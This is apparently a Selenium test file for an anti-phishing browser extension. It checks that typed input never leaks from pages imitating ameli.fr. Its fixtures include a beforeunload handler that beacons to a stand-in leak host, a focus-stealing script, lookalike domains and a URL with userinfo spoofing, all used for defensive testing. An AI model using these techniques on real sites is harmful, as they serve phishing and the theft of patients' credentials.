"""Nothing typed, pasted, dropped or clicked reaches a page before the patient has answered."""

from __future__ import annotations

import contextlib
from collections.abc import Iterator
from typing import Any

import pytest
from selenium.common.exceptions import WebDriverException
from selenium.webdriver.common.action_chains import ActionChains
from selenium.webdriver.common.keys import Keys

from tests.extension.browsers import Browser
from tests.extension.leaks import (
    AFTER_VERIFIED,
    ASKED_WHATEVER_IT_IS_MADE_OF,
    DOCUMENTS_WITHOUT_A_REQUEST,
    FORM,
    HIDING,
    POPUPS,
    POSING,
    TYPED,
    opener,
    page,
)
from tests.extension.sites import Recorder, Sites

SUSPICIOUS = "ameli-lettre.fr"
NEUTRAL = "portail-neutre.info"
ADDRESS = "203.0.113.7"


def leaks(sites: Sites) -> list[str]:
    return [request for request in sites.requests if "/leak" in request]


def write(browser: Browser) -> None:
    """Focus the field, if the page is still there, and type at once; keys go to our page if it is not."""
    try:
        browser.run("window.focusSecret ? focusSecret() : document.getElementById('secret')?.focus()")
        for key in browser.driver.find_elements("css selector", ".key"):
            key.click()
    except WebDriverException:
        pass  # replaced meanwhile
    ActionChains(browser.driver).send_keys(TYPED).perform()


def is_asked(browser: Browser) -> bool:
    return browser.is_stopped and browser.run("return document.documentElement.dataset.shown") is not None


def opens_a_window(browser: Browser, is_framed: bool) -> tuple[str, str]:
    """Click the button that opens a window, in the page's frame if it stands there: that page's window, the new one."""
    first, before = browser.driver.current_window_handle, set(browser.driver.window_handles)
    if is_framed:
        browser.driver.switch_to.frame("f")
    browser.until(lambda: browser.driver.find_element("id", "go"))
    browser.click("#go")
    opened = browser.until(lambda: set(browser.driver.window_handles) - before).pop()
    browser.driver.switch_to.window(opened)
    return first, opened


@contextlib.contextmanager
def closed_in_the_end(browser: Browser, first: str) -> Iterator[None]:
    """The window in front, whatever becomes of it; the first one is in front then."""
    try:
        yield
    finally:
        browser.driver.close()
        browser.driver.switch_to.window(first)


@pytest.mark.parametrize("kind", ASKED_WHATEVER_IT_IS_MADE_OF)
def test_a_suspicious_address_is_asked_about_whatever_its_page_is_made_of(
    browser: Browser, sites: Sites, recorder: Recorder, kind: str
) -> None:
    recorder.mode = "slow"  # time to type
    sites.pages[SUSPICIOUS] = page(ASKED_WHATEVER_IT_IS_MADE_OF[kind])
    browser.open(f"http://{SUSPICIOUS}/")
    write(browser)
    recorder.mode = "pass"
    browser.until(lambda: is_asked(browser))
    assert leaks(sites) == []


@pytest.mark.parametrize("kind", DOCUMENTS_WITHOUT_A_REQUEST)
@pytest.mark.parametrize("host", [SUSPICIOUS, "arneli.fr"])
def test_a_document_without_a_request_counts_as_the_page_that_made_it(
    browser: Browser, sites: Sites, kind: str, host: str
) -> None:
    sites.pages[host] = page(DOCUMENTS_WITHOUT_A_REQUEST[kind])
    browser.open(f"http://{host}/")
    if "click" in kind:
        with contextlib.suppress(WebDriverException):  # replaced meanwhile
            browser.click("#go")
    write(browser)
    browser.until(lambda: is_asked(browser))
    assert leaks(sites) == []


@pytest.mark.parametrize("kind", POPUPS)
def test_a_window_that_a_page_opens_counts_as_the_page(
    browser: Browser, sites: Sites, recorder: Recorder, kind: str
) -> None:
    recorder.mode = "slow"  # time to type
    sites.pages[NEUTRAL] = opener(kind)
    browser.open(f"http://{NEUTRAL}/")
    first, _ = opens_a_window(browser, is_framed="frame" in kind)
    with closed_in_the_end(browser, first):
        browser.until(lambda: is_asked(browser) or browser.driver.find_elements("id", "secret"))
        write(browser)
        recorder.mode = "pass"
        browser.until(lambda: is_asked(browser))
        assert NEUTRAL in browser.text("#host")
        assert leaks(sites) == []


@pytest.mark.parametrize("mode", ["refusing", "500", "hang", "late"])
@pytest.mark.parametrize("host", [SUSPICIOUS, "arneli.fr"])
def test_a_strong_host_is_asked_about_without_the_service(
    browser: Browser, sites: Sites, recorder: Recorder, mode: str, host: str
) -> None:
    sites.pages[host] = page(FORM)
    with recorder.broken(mode):
        browser.open(f"http://{host}/")
        write(browser)
        browser.until(lambda: is_asked(browser))
    assert "pas pu vérifier" in browser.text("h1")
    assert leaks(sites) == []


def test_typing_on_without_looking_agrees_to_nothing(browser: Browser, sites: Sites) -> None:
    sites.pages[SUSPICIOUS] = page(FORM)
    browser.open(f"http://{SUSPICIOUS}/")
    browser.until(lambda: is_asked(browser))
    browser.until(lambda: browser.run("return !document.getElementById('once').disabled"))
    for _ in range(3):
        ActionChains(browser.driver).send_keys("12", Keys.TAB, "34", Keys.ENTER, " ").perform()
    assert not browser.is_at(f"{SUSPICIOUS}/")
    (kept,) = browser.until(lambda: [kept_for_the_session(browser)])  # a press may still be leading to the real site
    assert kept.get("once", []) == []
    assert leaks(sites) == []


def kept_for_the_session(browser: Browser) -> dict[str, Any]:
    browser.page("pages/options.html")
    return browser.stored("session")


def test_a_double_click_where_the_button_appears_agrees_to_nothing(browser: Browser, sites: Sites) -> None:
    sites.pages[SUSPICIOUS] = page(FORM)
    browser.open(f"http://{SUSPICIOUS}/")
    browser.until(lambda: is_asked(browser))
    browser.until(lambda: browser.run("return !document.getElementById('once').disabled"))
    button = browser.driver.find_element("id", "once")
    browser.run("window.focus(); dispatchEvent(new Event('focus'))")  # as when the patient's window has just come back
    ActionChains(browser.driver).double_click(button).perform()
    assert is_asked(browser)


@pytest.mark.parametrize("around", ["field in a frame of another host", "top takes the focus"])
def test_one_question_for_the_whole_tab(browser: Browser, sites: Sites, around: str) -> None:
    steal = "<script>setInterval(() => document.hasFocus() || focus(), 50)</script>" if "focus" in around else ""
    sites.pages[NEUTRAL] = page(
        FORM.replace("secret", "other").replace("password", "hidden") + steal
        + '<iframe id="f" src="//cadre-neutre.info/" width=600 height=300></iframe>', "ameli - Mon compte"
    )  # fmt: skip
    sites.pages["cadre-neutre.info"] = page(FORM)
    browser.open(f"http://{NEUTRAL}/")
    try:
        browser.driver.switch_to.frame("f")
        write(browser)
    except WebDriverException:
        pass  # replaced meanwhile
    browser.driver.switch_to.default_content()
    browser.until(lambda: is_asked(browser))
    assert browser.text("#host") == NEUTRAL
    assert leaks(sites) == []


def test_a_public_address_is_a_host_like_any_other(browser: Browser, sites: Sites, recorder: Recorder) -> None:
    sites.pages[ADDRESS] = POSING
    browser.open(f"http://{ADDRESS}/")
    write(browser)
    browser.until(lambda: is_asked(browser))
    assert browser.text("#host") == ADDRESS
    assert leaks(sites) == []


@pytest.mark.parametrize("kind", HIDING)
def test_a_page_that_hides_what_it_asks_for_is_looked_at_all_the_same(
    browser: Browser, sites: Sites, kind: str
) -> None:
    sites.pages[NEUTRAL] = HIDING[kind]
    browser.open(f"http://{NEUTRAL}/")
    write(browser)
    browser.until(lambda: is_asked(browser))
    assert leaks(sites) == []


def test_a_window_that_showed_a_verified_site_counts_as_the_page_that_opened_it(browser: Browser, sites: Sites) -> None:
    sites.pages[NEUTRAL] = opener(AFTER_VERIFIED)
    browser.open(f"http://{NEUTRAL}/")
    first, opened = opens_a_window(browser, is_framed=True)
    with closed_in_the_end(browser, first):
        browser.until(lambda: browser.is_at("www.ameli.fr/") and browser.text("h1"))
        browser.driver.switch_to.window(first)
        browser.driver.switch_to.frame("f")
        browser.run("document.getElementById('then').click()")
        browser.driver.switch_to.window(opened)
        browser.until(lambda: is_asked(browser) or browser.driver.find_elements("id", "secret"))
        write(browser)
        browser.until(lambda: is_asked(browser))
        assert NEUTRAL in browser.text("#host")
        assert leaks(sites) == []


def test_a_page_typed_into_may_not_ask_whether_to_leave_it(browser: Browser, sites: Sites) -> None:
    """Its handler is told by the spy: a driver answers such a dialog before anyone sees it."""
    sites.pages[NEUTRAL] = page(
        '<input id=city name=city><script>addEventListener("beforeunload", (e) => { navigator.sendBeacon('
        '"https://fuite.example.org/leak?asked"); e.preventDefault(); });'
        "city.addEventListener('change', () => { document.title = 'ameli - Mon compte';"
        "const d = document.createElement('div'); d.innerHTML = '<input type=password>';"
        "document.body.append(d); })</script>"
    )
    browser.open(f"http://{NEUTRAL}/")
    browser.keys("#city", "Lille" + Keys.TAB)
    browser.until(lambda: is_asked(browser))
    assert leaks(sites) == []


def test_going_on_returns_to_a_page_that_was_reached_by_post(browser: Browser, sites: Sites) -> None:
    sites.pages[f"{NEUTRAL}/etape"] = page("<p id=posted>{posted}</p>" + FORM, "ameli - Mon compte")
    sites.pages[NEUTRAL] = page(
        '<form method=post action="/etape"><input name=panier value=trois><button id=go>ok</button></form>'
    )
    browser.open(f"http://{NEUTRAL}/")
    browser.click("#go")
    browser.until(lambda: is_asked(browser))
    if not browser.is_chromium:  # a busy browser's step back begins after any pause: a second one would lead too far
        browser.run("const own = window.setTimeout; window.setTimeout = (then) => own.call(window, then, 0)")
    browser.goes_on()
    browser.until(lambda: "panier=trois" in browser.text("#posted"))
    browser.keys("#secret", "abc")
    assert browser.run("return document.getElementById('secret').value") == "abc"
    browser.open(f"http://{NEUTRAL}/encore")  # remembered for the host
    assert browser.is_at(f"{NEUTRAL}/encore")


def test_going_on_leads_to_the_address_where_a_rule_stopped_it(browser: Browser, sites: Sites) -> None:
    sites.pages[SUSPICIOUS] = page(FORM)
    browser.open(f"http://{SUSPICIOUS}/")
    browser.until(lambda: is_asked(browser))
    browser.open("http://journal.example.com/")
    sites.requests.clear()
    browser.open(f"http://www.ameli.fr@{SUSPICIOUS}/dossier?x=1")  # the name before the @ is no part of it
    browser.until(lambda: is_asked(browser))
    assert [request for request in sites.requests if request.startswith(SUSPICIOUS)] == []
    assert browser.text("#host") == SUSPICIOUS
    browser.goes_on()
    browser.until(lambda: browser.url.endswith(f"{SUSPICIOUS}/dossier?x=1"))
